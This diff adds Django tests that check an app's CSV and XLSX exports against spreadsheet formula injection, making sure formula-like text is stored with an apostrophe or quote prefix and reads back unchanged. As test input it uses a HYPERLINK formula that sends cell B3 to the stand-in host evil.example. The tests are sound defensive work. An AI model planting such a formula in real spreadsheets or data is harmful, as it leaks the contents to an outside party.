@@ -136,3 +136,40 @@ def test_an_export_asks_for_the_password_again_first(client, alice, year):
     client.force_login(alice)
     response = client.get(reverse("export", args=["solvik", "newcomers", "csv"]))
     assert response.status_code == 302 and "/konto/reauthenticate/" in response["Location"]
+
+
+LIVE_FORMULA = '=HYPERLINK("http://evil.example/?leak="&B3,"Klicka")'
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"])
+def test_formula_like_text_is_neutralised_in_csv_and_xlsx_and_imports_back_unchanged(client, alice, year, start):
+    value = start + 'HYPERLINK("http://evil.example/?leak="&B3,"Klicka")'
+    Newcomer.objects.filter(pk=year.pk).update(external_ref=value)
+    recently_authenticated(client, alice)
+
+    import csv
+
+    csv_text = client.get(reverse("export", args=["solvik", "newcomers", "csv"])).content.decode("utf-8-sig")
+    cells = [c for row in csv.reader(io.StringIO(csv_text, newline=""), delimiter=";") for c in row]
+    assert "'" + value in cells, "a leading apostrophe: text, not a formula"
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"))]
+
+    book = load_workbook(io.BytesIO(client.get(reverse("export", args=["solvik", "newcomers", "xlsx"])).content))
+    cells = [c for row in book.active.iter_rows() for c in row if str(c.value).strip() == value.strip()]
+    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells), "stored as text, never as a formula"
+
+    from coordinator.importing import read_rows
+
+    for fmt in ("csv", "xlsx"):
+        exported = client.get(reverse("export", args=["solvik", "newcomers", fmt])).content
+        rows, _unknown = read_rows(f"export.{fmt}", exported)
+        # read back as it was written (the importer trims the white space around any value)
+        assert " ".join(value.split()) in [r.get("external_ref") for r in rows], fmt
+
+
+def test_the_funder_reports_xlsx_holds_no_formula(client, alice, year):
+    Newcomer.objects.update(locality=LIVE_FORMULA)  # a place name comes from the data
+    recently_authenticated(client, alice)
+    content = client.get(reverse("funder_report_file", args=["solvik", "xlsx"])).content
+    book = load_workbook(io.BytesIO(content))
+    assert not [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]
